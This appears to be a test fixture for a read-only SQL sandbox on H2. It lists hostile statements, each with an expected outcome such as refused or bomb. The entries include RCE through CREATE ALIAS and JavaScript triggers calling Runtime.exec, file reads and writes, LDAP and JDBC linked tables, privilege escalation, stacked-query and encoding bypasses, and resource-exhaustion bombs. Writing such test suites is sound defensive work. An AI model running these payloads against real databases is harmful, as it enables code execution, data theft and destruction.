-- What an attacker would have an H2 database do. See README.md for the format.
-- The database has item(id, name, price) of three rows, and log(line), which is empty.

--- function refused
SELECT UTF8TOSTRING(FILE_READ${u+001c}('${canary}'))
--- write refused
SELECT id FROM OLD TABLE (${u+001f}UPDATE item SET id = 777)
--- write refused
INSERT INTO item VALUES (9, 'evil', 1)
--- write refused
INSERT INTO log SELECT name FROM item
--- write refused
MERGE INTO item KEY (id) VALUES (1, 'evil', 0)
--- write refused
MERGE INTO item USING (SELECT 1 AS k) s ON item.id = s.k WHEN MATCHED THEN DELETE
--- write refused
UPDATE item SET price = 0
--- write refused
DELETE FROM item
--- write refused
TRUNCATE TABLE item
--- write refused
SELECT * FROM FINAL TABLE (INSERT INTO item VALUES (9, 'evil', 1))
--- write refused
SELECT id FROM OLD TABLE (DELETE FROM item)
--- write refused
SELECT * FROM NEW TABLE (UPDATE item SET price = 666) n JOIN item ON n.id = item.id
--- write refused
SELECT (SELECT max(id) FROM FINAL TABLE (MERGE INTO item KEY (id) VALUES (1, 'evil', 0)))
--- cte refused
WITH x AS (SELECT 1 AS id) INSERT INTO item SELECT id, 'evil', 0 FROM x
--- cte refused
WITH x AS (SELECT 1 AS id) DELETE FROM item WHERE id IN (SELECT id FROM x)
--- cte refused
WITH x AS (SELECT 1 AS id) UPDATE item SET name = 'evil' WHERE id IN (SELECT id FROM x)
--- cte refused
WITH x AS (SELECT 1 AS id) CREATE TABLE evil AS SELECT * FROM x
--- ddl refused
CREATE TABLE evil (a INT)
--- ddl refused
CREATE MEMORY TABLE evil AS SELECT * FROM item
--- ddl refused
CREATE LOCAL TEMPORARY TABLE item (id INT, name VARCHAR, price DOUBLE PRECISION)
--- ddl refused
CREATE GLOBAL TEMPORARY TABLE evil (a INT)
--- ddl refused
CREATE OR REPLACE VIEW evil AS SELECT * FROM item
--- ddl refused
DROP TABLE item
--- ddl refused
DROP ALL OBJECTS DELETE FILES
--- ddl refused
ALTER TABLE item ADD COLUMN evil INT
--- ddl refused
ALTER TABLE item RENAME TO gone
--- ddl refused
CREATE SCHEMA evil
--- ddl refused
CREATE SEQUENCE evil
--- ddl refused
CREATE DOMAIN evil AS VARCHAR
--- ddl refused
CREATE CONSTANT evil VALUE 666
--- ddl refused
COMMENT ON TABLE item IS 'evil'
--- ddl refused
ANALYZE
--- function refused
CREATE ALIAS evil AS 'String run(String c) throws Exception { return new java.util.Scanner(Runtime.getRuntime().exec(c).getInputStream()).next(); }'
--- function refused
CREATE ALIAS evil FOR 'java.lang.System.setProperty'
--- function refused
CREATE ALIAS evil FOR 'java.lang.Runtime.exit'; CALL evil(1)
--- function refused
CREATE AGGREGATE evil FOR 'java.lang.String'
--- function refused
CREATE TRIGGER evil BEFORE SELECT ON item AS 'org.h2.api.Trigger create() { System.setProperty("evil", "1"); return null; }'
--- function refused
CREATE TRIGGER evil BEFORE SELECT ON information_schema.tables AS $$//javascript
java.lang.Runtime.getRuntime().exec("touch ${out}")$$
--- rights refused
CREATE USER evil PASSWORD 'evil' ADMIN
--- rights refused
ALTER USER CURRENT_USER ADMIN TRUE
--- rights refused
GRANT ALL ON item TO PUBLIC
--- rights refused
CREATE ROLE evil
--- rights refused
ALTER USER sa SET PASSWORD 'evil'
--- rights refused
SET PASSWORD 'evil'
--- stacked refused
SELECT 1; DROP TABLE item
--- stacked refused
SELECT ';'; DELETE FROM item
--- stacked refused
SELECT $$;$$; DELETE FROM item
--- stacked refused
CALL 1; INSERT INTO item VALUES (9, 'evil', 1)
--- stacked refused
SELECT U&'\003b'; DELETE FROM item
--- comment refused
/* SELECT 1 */ DELETE FROM item
--- comment refused
/* /* nested */ SELECT 1 */ DELETE FROM item
--- comment refused
SELECT 1 // harmless
; DELETE FROM item
--- comment refused
-- SELECT 1${u+000D}DELETE FROM item
--- comment query
/*! DELETE FROM item */
--- comment refused
SELECT 1 //'
; DELETE FROM item --'
--- comment refused
SELECT 1 //*
; DELETE FROM item --*/
--- comment refused
SELECT 1 AS x${u+0001}$$; DELETE FROM item --$$
--- comment refused
SELECT 1_0x$$; DELETE FROM item --$$
--- encoding refused
${u+FEFF}DELETE FROM item
--- encoding refused
SELECT 1${u+0000}; DELETE FROM item
--- encoding refused
DELETE${u+00A0}FROM${u+2003}item
--- encoding refused
ＤＲＯＰ TABLE item
--- encoding refused
SELECT 'a\'; DELETE FROM item; --'
--- encoding refused
STRINGDECODE('\u0044ELETE FROM item')
--- transaction refused
SET AUTOCOMMIT FALSE
--- transaction refused
BEGIN; DELETE FROM item; COMMIT
--- transaction refused
COMMIT; INSERT INTO item VALUES (9, 'evil', 1)
--- transaction refused
SAVEPOINT a; DELETE FROM item; ROLLBACK TO SAVEPOINT a
--- transaction refused
PREPARE COMMIT evil
--- transaction refused
COMMIT TRANSACTION evil
--- transaction refused
SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL READ UNCOMMITTED
--- prepare refused
EXECUTE IMMEDIATE 'DELETE FROM item'
--- prepare refused
EXECUTE IMMEDIATE 'DE' || 'LETE FROM item'
--- prepare refused
CALL (SELECT count(*) FROM FINAL TABLE (INSERT INTO log VALUES ('evil')))
--- prepare refused
{call 1}
--- file refused
CALL CSVWRITE('${out}', 'SELECT * FROM item')
--- file refused
SELECT CSVWRITE('${out}', 'SELECT * FROM item')
--- file refused
SELECT * FROM CSVREAD('${canary}')
--- file refused
SELECT FILE_WRITE('evil', '${out}')
--- file refused
SELECT FILE_READ('${canary}', NULL)
--- file refused
SELECT "FILE_WRITE"(x'6576696c', '${out}') FROM item
--- file refused
SELECT FILE_READ('classpath:META-INF/MANIFEST.MF')
--- file refused
SCRIPT TO '${out}'
--- file refused
SCRIPT
--- file refused
BACKUP TO '${out}'
--- file refused
RUNSCRIPT FROM '${canary}'
--- file refused
CREATE TABLE evil AS SELECT * FROM CSVREAD('${canary}')
--- file refused
SET TRACE_LEVEL_FILE 3
--- file refused
SELECT U&"FILE\005fWRITE"(x'6576696c', '${out}')
--- file refused
SELECT FıLE_WRITE(x'6576696c', '${out}')
--- file refused
SELECT * FROM CſVREAD('${canary}')
--- network refused
SELECT * FROM LINK_SCHEMA('EVIL', '', 'jdbc:h2:tcp://127.0.0.1:${port}/~/evil', 'sa', '', 'PUBLIC')
--- network refused
CREATE LINKED TABLE evil('', 'jdbc:h2:tcp://127.0.0.1:${port}/evil', 'sa', '', 'ITEM')
--- network refused
RUNSCRIPT FROM 'http://127.0.0.1:${port}/evil.sql'
--- network refused
SELECT FILE_READ('http://127.0.0.1:${port}/evil')
--- network refused
SELECT * FROM CSVREAD('http://127.0.0.1:${port}/evil.csv')
--- network refused
CREATE LINKED TABLE evil('javax.naming.InitialContext', 'ldap://127.0.0.1:${port}/evil', '', '', 'ITEM')
--- setting refused
SET MODE MySQL
--- setting refused
SET IGNORECASE TRUE
--- setting refused
SET SCHEMA INFORMATION_SCHEMA
--- setting refused
SET @evil = 666
--- setting refused
SET DB_CLOSE_DELAY -1
--- setting refused
SET CACHE_SIZE 100000000
--- setting refused
SET QUERY_TIMEOUT 0
--- setting refused
SET ALLOW_LITERALS NONE
--- setting refused
SET BUILTIN_ALIAS_OVERRIDE TRUE
--- setting refused
SET TIME ZONE '12:00'
--- setting refused
SET NON_KEYWORDS SELECT
--- setting refused
SET EXCLUSIVE 2
--- setting query
SELECT @evil := 666
--- setting query
SELECT SET(@evil, 667), @evil
--- setting refused
SELECT NEXT VALUE FOR evil, NEXTVAL('evil')
--- setting refused
SELECT U&"NEXT\0056AL"('evil')
--- setting refused
SELECT evil.U&"NEXT\0056AL"
--- setting refused
SELECT U&"NEXT!0056AL" UESCAPE '!' ('evil')
--- setting refused
SELECT evil.NEXTVAL
--- setting refused
SELECT NEXTVAL('PUBLIC', 'evil')
--- setting query
SELECT * FROM INFORMATION_SCHEMA.SETTINGS
--- setting query
SELECT IDENTITY(), SESSION_ID(), MEMORY_USED(), DATABASE_PATH()
--- shutdown refused
SHUTDOWN
--- shutdown refused
SHUTDOWN IMMEDIATELY
--- shutdown refused
SHUTDOWN DEFRAG
--- shutdown refused
CHECKPOINT SYNC
--- shutdown query
SELECT ABORT_SESSION(1), CANCEL_SESSION(1)
--- lock refused
SELECT * FROM item FOR UPDATE
--- lock query
SELECT RAND(1), SECURE_RAND(10)
--- bomb bomb
WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT count(*) FROM c
--- bomb bomb
SELECT count(*) FROM SYSTEM_RANGE(1, 1000000) a, SYSTEM_RANGE(1, 1000000) b WHERE a.x * b.x = 7
--- bomb bomb
SELECT sum(sqrt(x)) FROM SYSTEM_RANGE(1, 1000000000000)
--- bomb bomb
SELECT x FROM SYSTEM_RANGE(1, 300000) ORDER BY hash('SHA-256', x, 200)
--- heavy heavy
SELECT REGEXP_LIKE(REPEAT('a', 60), '^((a|a)+)+\2b$')
--- heavy heavy
SELECT HASH('SHA-256', 'evil', 2000000000)
--- bomb bomb
SELECT COMPRESS(SPACE(1000000), 'DEFLATE') FROM SYSTEM_RANGE(1, 100000)
--- heavy heavy
SELECT REPEAT('x', 1000000000)
--- heavy heavy
SELECT SPACE(2000000000)
--- heavy heavy
SELECT LISTAGG(REPEAT('x', 1000000)) FROM SYSTEM_RANGE(1, 1500)
--- heavy heavy
SELECT ARRAY_AGG(REPEAT('x', 100000)) FROM SYSTEM_RANGE(1, 20000)
--- heavy heavy
SELECT EXPAND(COMPRESS(SPACE(500000000), 'DEFLATE'))
--- heavy heavy
SELECT x FROM SYSTEM_RANGE(1, 100000000) ORDER BY x DESC

--- escape refused
SELECT {fnNEXTVAL('PUBLIC', 's')}

--- escape refused
SELECT {fnFILE_READ('${canary}', NULL)}

--- escape refused
SELECT {fn CONCAT('a', NEXT/**/VALUE/**/}FOR s)

--- escape refused
SELECT TOP 1LNEXTVAL('s')
--- activity refused
SELECT EXECUTING_STATEMENT FROM INFORMATION_SCHEMA.SESSIONS
